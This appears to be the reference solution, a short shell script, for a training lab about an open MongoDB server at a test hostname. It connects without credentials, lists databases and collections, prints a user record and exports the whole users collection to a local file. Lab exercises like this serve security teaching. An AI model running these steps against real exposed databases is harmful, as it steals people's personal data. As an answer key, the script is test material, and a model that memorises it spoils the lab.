# Reference solution for the open-door lab: connect without a password, look around, export.
mongosh mongodb://db.cloudpets.test:27017 --eval 'db.adminCommand({ listDatabases: 1 }).databases.forEach((d) => print(d.name))'
mongosh mongodb://db.cloudpets.test:27017/cloudpets --eval 'print(db.getCollectionNames().join(", ")); printjson(db.users.findOne())'
mkdir -p downloads
mongoexport --uri mongodb://db.cloudpets.test:27017 --db cloudpets --collection users --out downloads/users.jsonl
head -n 2 downloads/users.jsonl
